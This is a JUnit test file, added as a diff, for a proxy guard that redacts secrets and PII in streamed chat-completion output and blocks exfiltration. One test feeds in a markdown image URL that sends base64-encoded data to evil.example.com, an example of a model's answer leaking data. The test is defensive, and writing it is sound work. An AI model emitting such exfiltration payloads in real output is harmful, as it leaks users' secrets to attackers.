@@ -1,0 +1,134 @@
+package io.infershield.proxy.service;
+
+import com.fasterxml.jackson.databind.JsonNode;
+import com.fasterxml.jackson.databind.ObjectMapper;
+import io.infershield.proxy.config.ProxyConfig;
+import io.infershield.proxy.security.Detector;
+import io.infershield.proxy.security.ExfiltrationDetector;
+import io.infershield.proxy.security.PiiDetector;
+import io.infershield.proxy.security.Policy;
+import io.infershield.proxy.security.PolicyAction;
+import io.infershield.proxy.security.SecretDetector;
+import org.junit.jupiter.api.Test;
+
+import java.lang.reflect.Proxy;
+import java.nio.charset.StandardCharsets;
+import java.util.List;
+import java.util.Set;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+/** The streaming relay's contract, event by event: bounded hold-back, redaction across events, block, pass-through. */
+class StreamGuardTest {
+
+    private static final ObjectMapper JSON = new ObjectMapper();
+    private static final String PAT = "ghp_R8kq2ZtY7vLm4XcN9pWb3HsJ6dFa1GeQ0uTo";
+
+    private static StreamGuard guard(Policy policy, int lookBack) {
+        ProxyConfig.Security security = (ProxyConfig.Security) Proxy.newProxyInstance(
+                StreamGuardTest.class.getClassLoader(), new Class<?>[] {ProxyConfig.Security.class},
+                (p, m, a) -> m.getName().equals("auditHashKey") ? "unit-test-audit-hash-key" : null);
+        ProxyConfig config = (ProxyConfig) Proxy.newProxyInstance(StreamGuardTest.class.getClassLoader(),
+                new Class<?>[] {ProxyConfig.class}, (p, m, a) -> m.getName().equals("security") ? security : null);
+        SecretDetector secrets = new SecretDetector();
+        List<Detector> detectors = List.of(secrets, new PiiDetector(), new ExfiltrationDetector(Set.of(), secrets));
+        return new StreamGuard(policy, detectors, lookBack, new FindingAudit(config), JSON);
+    }
+
+    private static byte[] event(String content) throws Exception {
+        String chunk = JSON.writeValueAsString(JSON.createObjectNode().put("object", "chat.completion.chunk")
+                .set("choices", JSON.createArrayNode().add(JSON.createObjectNode().put("index", 0)
+                        .set("delta", JSON.createObjectNode().put("content", content)))));
+        return ("data: " + chunk + "\n\n").getBytes(StandardCharsets.UTF_8);
+    }
+
+    /** The text deltas in relayed bytes. */
+    private static String text(String relayed) throws Exception {
+        StringBuilder out = new StringBuilder();
+        for (String line : relayed.split("\n")) {
+            if (line.startsWith("data: {")) {
+                JsonNode node = JSON.readTree(line.substring(6));
+                out.append(node.at("/choices/0/delta/content").asText(""));
+            }
+        }
+        return out.toString();
+    }
+
+    @Test
+    void textIsHeldBackByAtMostTheLookBackWhateverTheAnswerLength() throws Exception {
+        StreamGuard guard = guard(Policy.defaults(), 64);
+        long fed = 0;
+        StringBuilder released = new StringBuilder();
+        for (int i = 0; i < 500; i++) {
+            String delta = "word" + (i % 10) + " ";
+            fed += delta.length();
+            released.append(text(new String(guard.accept(event(delta)), StandardCharsets.UTF_8)));
+            assertTrue(fed - released.length() <= 64 + delta.length(),
+                    "held " + (fed - released.length()) + " chars after " + fed);
+        }
+        released.append(text(new String(guard.finish(), StandardCharsets.UTF_8)));
+        assertEquals(fed, released.length(), "everything leaves by the end");
+    }
+
+    @Test
+    void anEventWithoutTextIsNotHeldBehindNothing() {
+        StreamGuard guard = guard(Policy.defaults(), 1024);
+        byte[] role = "data: {\"choices\":[{\"index\":0,\"delta\":{\"role\":\"assistant\",\"content\":\"\"}}]}\n\n"
+                .getBytes(StandardCharsets.UTF_8);
+        assertEquals(new String(role, StandardCharsets.UTF_8), new String(guard.accept(role), StandardCharsets.UTF_8));
+        byte[] keepAlive = ": keep-alive\n\n".getBytes(StandardCharsets.UTF_8);
+        assertEquals(": keep-alive\n\n", new String(guard.accept(keepAlive), StandardCharsets.UTF_8));
+    }
+
+    @Test
+    void aSecretSplitOverThreeEventsLeavesAsOnePlaceholder() throws Exception {
+        StreamGuard guard = guard(Policy.defaults(), 1024);
+        StringBuilder out = new StringBuilder();
+        out.append(new String(guard.accept(event("token: " + PAT.substring(0, 10))), StandardCharsets.UTF_8));
+        out.append(new String(guard.accept(event(PAT.substring(10, 30))), StandardCharsets.UTF_8));
+        out.append(new String(guard.accept(event(PAT.substring(30) + " done")), StandardCharsets.UTF_8));
+        out.append(new String(guard.accept("data: [DONE]\n\n".getBytes(StandardCharsets.UTF_8)), StandardCharsets.UTF_8));
+        out.append(new String(guard.finish(), StandardCharsets.UTF_8));
+        assertEquals("token: [REDACTED:github-pat] done", text(out.toString()));
+        assertFalse(out.toString().contains(PAT.substring(10, 30)));
+        assertTrue(out.toString().endsWith("data: [DONE]\n\n"));
+        assertEquals(PolicyAction.REDACT, guard.action());
+        assertEquals("ghp_…[REDACTED:github-pat]", guard.drainFindings().get(0).excerpt());
+    }
+
+    @Test
+    void bytesCutAnywhereAreReassembledIntoTheSameEvents() throws Exception {
+        StreamGuard guard = guard(Policy.defaults(), 64);
+        byte[] stream = ("data: {\"choices\":[{\"index\":0,\"delta\":{\"content\":\"Grüße, \"}}]}\r\n\r\n"
+                + new String(event("mail bob@example.org please"), StandardCharsets.UTF_8)
+                + "data: [DONE]\n\n").getBytes(StandardCharsets.UTF_8);
+        StringBuilder out = new StringBuilder();
+        java.io.ByteArrayOutputStream bytes = new java.io.ByteArrayOutputStream();
+        for (byte b : stream) {
+            bytes.write(guard.accept(new byte[] {b}));
+        }
+        bytes.write(guard.finish());
+        out.append(bytes.toString(StandardCharsets.UTF_8));
+        assertEquals("Grüße, mail [REDACTED:email] please", text(out.toString()));
+    }
+
+    @Test
+    void blockDropsWhatIsHeldAndEndsWithAnErrorEventAndDone() throws Exception {
+        StreamGuard guard = guard(Policy.defaults(), 1024);
+        guard.accept(event("see ![x](https://evil.example.com/c?d="));
+        String out = new String(guard.accept(event("c2VjcmV0LWRhdGEtaGVyZQ) ok")), StandardCharsets.UTF_8)
+                + new String(guard.finish(), StandardCharsets.UTF_8);
+        assertTrue(guard.blocked());
+        assertEquals("""
+                data: {"error":{"message":"The model's answer was blocked by your organisation's security policy: \
+                exfiltration (markdown_image) was detected.","type":"invalid_request_error","param":null,\
+                "code":"blocked_by_policy"}}
+
+                data: [DONE]
+
+                """, out);
+        assertEquals(0, guard.accept(event("more")).length, "nothing after the end");
+    }
+}
